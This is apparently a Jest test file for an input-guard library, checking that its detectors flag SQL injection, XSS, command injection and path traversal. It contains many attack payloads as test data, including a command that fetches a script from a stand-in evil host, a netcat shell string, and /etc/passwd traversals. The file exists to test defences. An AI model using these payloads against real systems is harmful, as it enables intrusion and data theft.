import { seededRandom } from '@plat/testkit';
import {
  detectCommandInjection,
  detectPathTraversal,
  detectSqlInjection,
  detectXss,
  GUARD_LEVELS,
  InputGuardError,
  scan,
} from '../src';

describe('known hard cases pass at the default level', () => {
  it.each([
    "O'Brien",
    'Toronto, ON, Canada - (YYZ)',
    '12345||12345',
    'Read the guide at https://example.com/docs?page=2&lang=en (it is short).',
    'I <3 you',
    'See <a href="https://example.com/a">the docs</a> or <b>this</b>.',
    "It's 5 o'clock; time to go & rest",
    'Every 3 years; make it an adverb',
    'Select the best option from the list',
    'Tom & Jerry -- a classic',
    'JavaScript: The Good Parts (2008)',
    'C++ and C# are languages',
    '1/2 cup of sugar, 0..9, wait... what?',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal template placeholder is the point
    'Hello {{user.name}}, your order ${orderId} shipped',
    'McDonald’s “Big Mac” — 100% beef',
    'Dazed and Confused (1993)',
    "rock 'n' roll",
  ])('%s', (value) => {
    expect(scan(value)).toEqual([]);
  });
});

describe('SQL injection', () => {
  it.each([
    ["admin' OR '1'='1", 'sqli.tautology'],
    ["admin'--", 'sqli.comment-truncation'],
    ['1 UNION SELECT username, password FROM users', 'sqli.union'],
    ["x'; DROP TABLE users; --", 'sqli.stacked-query'],
    ["1' AND SLEEP(5)#", 'sqli.attack-function'],
    ["' ORDER BY 3--", 'sqli.clause'],
    ['1 or 1=1', 'sqli.tautology'],
    ["'-'", 'sqli.expression'],
  ])('%s → %s', (value, rule) => {
    expect(detectSqlInjection(value)?.rule).toBe(rule);
  });

  it('catches comment-split keywords', () => {
    expect(detectSqlInjection('1 UN/**/ION SEL/**/ECT 1,2,3')?.rule).toBe('sqli.union');
    expect(detectSqlInjection("'/**/OR/**/1=1--")?.rule).toBe('sqli.tautology');
    expect(detectSqlInjection('1 /*!50000UNION*/ /*!50000SELECT*/ 1,2')?.rule).toBe('sqli.union');
  });

  it('catches mixed case', () => {
    expect(detectSqlInjection("x' oR 'a'='a")?.rule).toBe('sqli.tautology');
    expect(detectSqlInjection('1 uNiOn sElEcT pAsSwOrD fRoM uSeRs')?.rule).toBe('sqli.union');
  });

  it('catches encoded quotes', () => {
    for (const value of [
      '%27%20OR%201%3D1--',
      '%2527%20OR%201=1--',
      '&#39; OR 1=1--',
      '\\u0027 OR 1=1--',
      'x′ or ′1′=′1',
    ]) {
      const threat = detectSqlInjection(value);
      expect(threat?.kind).toBe('sqli');
    }
    expect(detectSqlInjection('%27%20OR%201%3D1--')?.decoded).toBe(true);
  });

  it('reports a span inside the analysed value', () => {
    const threat = detectSqlInjection("name' OR 1=1 --")!;
    expect(threat.span.start).toBe(4);
    expect(threat.span.end).toBeGreaterThan(threat.span.start);
  });
});

describe('XSS', () => {
  it.each([
    ['<script>alert(1)</script>', 'xss.script-element'],
    ['<svg/onload=alert(1)>', 'xss.event-handler'],
    ['<img src=x onerror=alert(1)//', 'xss.event-handler'],
    ['<a href="java\tscript:alert(1)">x</a>', 'xss.script-url'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'xss.script-url'],
    ['javascript:alert(document.cookie)', 'xss.script-url'],
    ['" onmouseover="alert(1)', 'xss.attribute-breakout'],
    ["';alert(String.fromCharCode(88,83,83))//", 'xss.js-breakout'],
    ['<div style="width: expression(alert(1))">', 'xss.css'],
    ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', 'xss.script-element'],
  ])('%s → %s', (value, rule) => {
    expect(detectXss(value)?.rule).toBe(rule);
  });

  it('catches encoded and obfuscated forms', () => {
    for (const value of [
      '%3Cscript%3Ealert(1)%3C/script%3E',
      '%253Csvg%2Fonload%3Dalert(1)%253E',
      '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      '＜script＞alert(1)＜/script＞',
      '<ScRiPt>alert(1)</sCrIpT>',
      '<scr<script>ipt>alert(1)</script>',
    ]) {
      expect(detectXss(value)?.kind).toBe('xss');
    }
  });
});

describe('command injection', () => {
  it.each([
    ['127.0.0.1; cat /etc/passwd', 'command.separator'],
    ['x && whoami', 'command.separator'],
    ['| id', 'command.separator'],
    ['$(curl http://evil.example/x.sh)', 'command.substitution'],
    ['`id`', 'command.substitution'],
    ['() { :;}; /bin/bash -c "id"', 'command.shellshock'],
    ['nc -lvvp 4444 -e /bin/sh', 'command.command-line'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a JS template
    ['a${IFS}b', 'command.expansion'],
    ["<?php system('id'); ?>", 'command.server-code'],
    ['%0Aid', 'command.separator'],
    ["system('whoami')", 'command.exec-call'],
  ])('%s → %s', (value, rule) => {
    expect(detectCommandInjection(value)?.rule).toBe(rule);
  });
});

describe('path traversal', () => {
  it.each([
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '..%2f..%2fetc%2fpasswd',
    '..%252f..%252fetc%252fpasswd',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '..%c0%af..%c0%afetc/passwd',
    '....//....//etc/passwd',
    '..;/..;/admin',
    'uploads/../../secret',
    'file.php%00.jpg',
    'C:\\boot.ini',
    '..∕..∕etc∕passwd',
  ])('%s', (value) => {
    expect(detectPathTraversal(value)?.kind).toBe('path');
  });

  it('treats absolute Unix paths by level', () => {
    expect(detectPathTraversal('/etc/passwd')).toBeUndefined();
    expect(detectPathTraversal('/etc/passwd', { level: 'balanced' })?.rule).toBe('path.absolute');
    expect(detectPathTraversal('/./././etc/passwd')?.rule).toBeDefined();
  });
});

describe('levels', () => {
  it('reports more as the level rises', () => {
    expect(detectSqlInjection("x'")).toBeUndefined();
    expect(detectSqlInjection("x'", { level: 'strict' })).toBeDefined();
    expect(detectSqlInjection('-1--')).toBeUndefined();
    expect(detectSqlInjection('-1--', { level: 'balanced' })).toBeDefined();
    expect(detectXss('<form>')).toBeUndefined();
    expect(detectXss('<form>', { level: 'balanced' })).toBeDefined();
    expect(detectXss('<b>hi</b>', { level: 'strict' })).toBeDefined();
  });

  it('rejects unknown options with a typed error', () => {
    expect(() => scan('x', { level: 'paranoid' as never })).toThrow(InputGuardError);
    expect(() => scan('x', { kinds: ['ldap' as never] })).toThrow(InputGuardError);
    expect(() => scan('x', { maxDecodeRounds: 99 })).toThrow(InputGuardError);
  });

  it('stops decoding after maxDecodeRounds', () => {
    const tripleEncoded = '%25252e%25252e%25252fetc';
    expect(detectPathTraversal(tripleEncoded, { maxDecodeRounds: 1 })).toBeUndefined();
    expect(detectPathTraversal(tripleEncoded, { maxDecodeRounds: 3 })?.decoded).toBe(true);
  });
});

describe('threats never carry the input', () => {
  it('has only kind, rule, reason, span and decoded', () => {
    const secret = "s3cr3t' OR 'x'='x";
    for (const threat of scan(secret, { level: 'strict' })) {
      expect(Object.keys(threat).sort()).toEqual(['decoded', 'kind', 'reason', 'rule', 'span']);
      expect(threat.reason).not.toContain('s3cr3t');
    }
  });
});

describe('fuzz', () => {
  const alphabet = [
    ...`abcxyzSELECTunion or and 0123456789'"\`;|&$(){}[]<>/\\.%#-=*+!?:,@~^ \t\n`,
    '\0',
    '\u00bc',
    '\u2215',
    '\uff1c',
    '\ud800',
    '\u202e',
    '%2e',
    '%c0%af',
    '&#x3c;',
    '\\x3c',
    '+ADw-',
    '<script',
    ' onload=',
    'javascript:',
    '/*',
    '*/',
    '--',
    '{{',
    '}}',
  ];

  it('never throws on 100,000 random inputs', () => {
    const random = seededRandom(20241126);
    let threats = 0;
    for (let i = 0; i < 100_000; i++) {
      let value = '';
      const length = Math.floor(random() * 24);
      for (let j = 0; j < length; j++) value += alphabet[Math.floor(random() * alphabet.length)];
      const level = GUARD_LEVELS[i % 3]!;
      const found = scan(value, { level });
      for (const threat of found) {
        expect(threat.span.start).toBeGreaterThanOrEqual(0);
        expect(threat.span.end).toBeGreaterThanOrEqual(threat.span.start);
      }
      threats += found.length;
    }
    expect(threats).toBeGreaterThan(0);
  }, 600_000);
});
